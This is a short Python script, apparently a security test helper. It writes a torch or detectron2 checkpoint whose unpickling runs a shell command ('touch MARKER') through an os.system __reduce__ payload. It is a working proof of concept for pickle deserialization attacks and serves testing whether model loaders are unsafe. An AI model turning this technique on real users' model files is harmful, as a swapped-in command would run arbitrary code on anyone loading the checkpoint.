"""``python save_unsafe_checkpoint.py FORMAT PATH MARKER`` in an upstream checkout: a checkpoint
at PATH whose unpickling would run ``touch MARKER``, in FORMAT (``torch``: the YOLO repos'
``torch.save({"model": ...})``; ``detectron2``: a pickled ``{"model": {"w": ...}}`` as its .pkl
checkpoints are). Prints the kind of file written."""

from __future__ import annotations

import json
import os
import pickle
import sys
from typing import Any

FORMATS = ("torch", "detectron2")


class Evil:
    """Unpickled, runs ``touch <marker>``."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (os.system, ("touch " + self.marker,))


def main(argv: list[str]) -> int:
    fmt, path, marker = argv
    sys.path.insert(0, os.getcwd())  # the checkout, as its own scripts import it
    evil = Evil(marker)
    if fmt == "torch":
        import torch

        torch.save({"model": evil}, path)
    elif fmt == "detectron2":
        with open(path, "wb") as f:
            pickle.dump({"model": {"w": evil}, "__author__": "x"}, f)
    else:
        raise ValueError(f"unknown checkpoint format {fmt!r}: use one of {FORMATS}")
    print(json.dumps({"format": fmt, "path": path}))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
